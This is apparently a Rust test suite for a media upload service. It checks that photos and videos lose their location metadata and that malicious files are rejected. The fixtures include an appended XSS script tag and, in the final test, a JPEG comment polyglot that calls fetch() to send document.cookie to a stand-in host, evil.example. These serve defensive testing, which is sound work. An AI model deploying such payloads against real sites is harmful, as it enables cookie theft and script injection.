//! Files of strangers: nothing of where and when survives, and what is no photo or video ends as such.

use serde_json::Value;

use crate::support::bad_files;
use crate::support::films::{self, PLACE};
use crate::support::hand::Hand;
use crate::support::server::Server;

pub use crate::support::photos::jpeg;

/// A JPEG as a phone makes it: lying on its side, with its place in EXIF and in XMP.
pub fn jpeg_with_place(width: u32, height: u32) -> Vec<u8> {
    let mut exif = b"Exif\0\0MM\0\x2a\0\0\0\x08\0\x02".to_vec();
    exif.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6, 0, 0]);
    exif.extend([0x01, 0x0e, 0, 2]);
    exif.extend((PLACE.len() as u32).to_be_bytes());
    exif.extend(38_u32.to_be_bytes());
    exif.extend([0; 4]);
    exif.extend(PLACE);
    let xmp = [b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>".to_vec(), PLACE.to_vec()].concat();
    let plain = jpeg(width, height);
    let mut out = plain[..2].to_vec();
    for segment in [exif, xmp] {
        out.extend([0xff, 0xe1]);
        out.extend((segment.len() as u16 + 2).to_be_bytes());
        out.extend(segment);
    }
    out.extend(&plain[2..]);
    out
}

pub fn has(bytes: &[u8], text: &[u8]) -> bool {
    bytes.windows(text.len()).any(|w| w == text)
}

#[tokio::test(flavor = "multi_thread")]
async fn wallet_s13_4_a_photo_with_its_place_is_made_anew_in_every_size() {
    let hand = Hand::of(Server::shared().await).await;
    let file = jpeg_with_place(2000, 1000);
    assert!(has(&file, PLACE));
    let id = hand.upload(&file).await;
    hand.ready(&id).await;
    for (variant, width, height) in
        [("t96", 96, 96), ("s320", 160, 320), ("m800", 400, 800), ("l1600", 800, 1600), ("master", 1000, 2000)]
    {
        let answer = hand.bytes(&id, variant).await;
        assert_eq!((answer.status, answer.header("content-type")), (200, Some("image/jpeg")), "{variant}");
        assert!(
            !has(&answer.body, PLACE) && !has(&answer.body, b"xmpmeta") && !has(&answer.body, b"Exif"),
            "{variant}"
        );
        let picture = image::load_from_memory(&answer.body).expect("a picture");
        assert_eq!((picture.width(), picture.height()), (width, height), "{variant}: upright");
    }
    assert_eq!(hand.bytes(&id, "play").await.status, 404);
}

#[tokio::test(flavor = "multi_thread")]
async fn wallet_s13_4_videos_lose_their_place_and_keep_their_pictures() {
    let hand = Hand::of(Server::shared().await).await;
    for (file, mime, pictures) in [
        (films::mp4(b"isom", 0), "video/mp4", &b"pictures and sound"[..]),
        (films::mp4(b"qt  ", 0), "video/quicktime", b"pictures and sound"),
        (films::webm(false), "video/webm", b"pictures"),
        (films::webm(true), "video/webm", b"pictures"),
    ] {
        assert!(has(&file, PLACE));
        let id = hand.upload(&file).await;
        hand.ready(&id).await;
        let answer = hand.bytes(&id, "play").await;
        assert_eq!((answer.status, answer.header("content-type")), (200, Some(mime)));
        assert_eq!(answer.body.len(), file.len(), "{mime}: no offset moved");
        assert!(!has(&answer.body, PLACE) && has(&answer.body, pictures), "{mime}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn wallet_s13_3_floods_bombs_and_polyglots_end_as_they_should() {
    let server = Server::shared().await;
    let hand = Hand::of(server).await;
    let mut torn = jpeg(600, 400);
    torn.truncate(300);
    let mut page = jpeg(40, 40);
    page.extend(b"<script>alert(document.domain)</script>");
    let mut other_codec = films::mp4(b"isom", 0);
    let codec = other_codec.windows(4).position(|w| w == b"avc1").expect("a codec");
    other_codec[codec..codec + 4].copy_from_slice(b"mjpa");
    let mut torn_film = films::mp4(b"isom", 0);
    torn_film.truncate(torn_film.len() - 300);
    for (what, file, reason) in [
        ("a pixel flood", bad_files::pixel_flood(), "pixels"),
        ("more pixels than are taken", bad_files::png_bomb(9000, 9000), "pixels"),
        ("a bomb", bad_files::png_bomb(7000, 7000), "decode"),
        ("half a photo", torn, "decode"),
        ("an archive behind a photo", bad_files::polyglot(), "policy"),
        ("a page behind a photo", page, "policy"),
        ("EICAR", bad_files::eicar(), "malware"),
        ("another codec", other_codec, "policy"),
        ("half a film", torn_film, "decode"),
    ] {
        let id = hand.upload(&file).await;
        assert_eq!(hand.settled(&id).await, ("rejected".to_owned(), Value::from(reason)), "{what}");
        for variant in ["master", "play", "t96"] {
            assert_eq!(hand.bytes(&id, variant).await.status, 404, "{what}: nobody ever reads it");
        }
        let told = hand.complete(&id).await;
        assert_eq!((told.status, told.json()["code"].as_str()), (422, Some("file_rejected")), "{what}");
        assert_eq!(told.json()["reason"], reason);
    }
    // A polyglot that no signature knows: what is kept is made anew, and holds nothing of it.
    let mut comment = jpeg(64, 64);
    let hidden = b"*/=1;fetch('//evil.example/'+document.cookie)/*";
    let mut segment = vec![0xff, 0xfe, 0, hidden.len() as u8 + 2];
    segment.extend(hidden);
    comment.splice(2..2, segment);
    let id = hand.upload(&comment).await;
    hand.ready(&id).await;
    assert!(!has(&hand.bytes(&id, "master").await.body, b"evil.example"));
    assert_eq!(hand.get("/healthz").await.status, 204, "the house stands");
}
